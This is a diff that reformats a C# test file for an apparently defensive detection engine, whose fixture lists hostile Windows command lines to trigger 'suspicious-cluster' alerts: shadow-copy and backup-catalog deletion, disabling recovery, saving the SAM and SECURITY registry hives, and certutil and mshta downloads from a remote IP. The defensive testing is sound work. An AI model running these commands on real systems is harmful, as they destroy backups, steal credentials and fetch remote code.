@@ -10,8 +10,10 @@ public class ClustersTests(AppFixture app) : IClassFixture<AppFixture>
 {
     private static readonly string[] CommandLines =
     [
-        "vssadmin.exe delete shadows /all /quiet", @"reg.exe save hklm\sam s.hiv", "certutil.exe -urlcache -split -f http://203.0.113.27/r.txt r.exe",
-        "mshta.exe http://203.0.113.27/a.hta", "wbadmin.exe delete catalog -quiet", "wmic.exe shadowcopy delete", @"reg.exe save hklm\security x.hiv", "bcdedit.exe /set {default} recoveryenabled no",
+        "vssadmin.exe delete shadows /all /quiet", @"reg.exe save hklm\sam s.hiv",
+        "certutil.exe -urlcache -split -f http://203.0.113.27/r.txt r.exe",
+        "mshta.exe http://203.0.113.27/a.hta", "wbadmin.exe delete catalog -quiet", "wmic.exe shadowcopy delete",
+        @"reg.exe save hklm\security x.hiv", "bcdedit.exe /set {default} recoveryenabled no",
     ];
 
     [Fact(Timeout = 180_000)]
@@ -67,11 +69,17 @@ public class ClustersTests(AppFixture app) : IClassFixture<AppFixture>
         for (var i = 0; i < 4; i++)
         {
             var later = Some.Time.AddMinutes(40);
-            var batch = new EventBatch(new EventPartition("telemetry", $"{i}"), [Message(10 + i, Record("services.exe", "svchost.exe", time: later), later)]);
+            var batch = new EventBatch(
+                new EventPartition("telemetry", $"{i}"), [Message(10 + i, Record("services.exe", "svchost.exe", time: later), later)]);
             Assert.True((await host.InvokeAsync(batch, TestContext.Current.CancellationToken)).Succeeded);
         }
     }
 
     /// <summary>The cluster rules among what arrived, repeats included.</summary>
-    internal static List<string> Clusters(AppRun run) => [.. run.Detections.Select(AppRun.Rule).Where(rule => rule.StartsWith("suspicious-cluster-", StringComparison.Ordinal)).Order(StringComparer.Ordinal)];
+    internal static List<string> Clusters(AppRun run) =>
+    [
+        .. run.Detections.Select(AppRun.Rule)
+        .Where(rule => rule.StartsWith("suspicious-cluster-", StringComparison.Ordinal))
+        .Order(StringComparer.Ordinal),
+    ];
 }
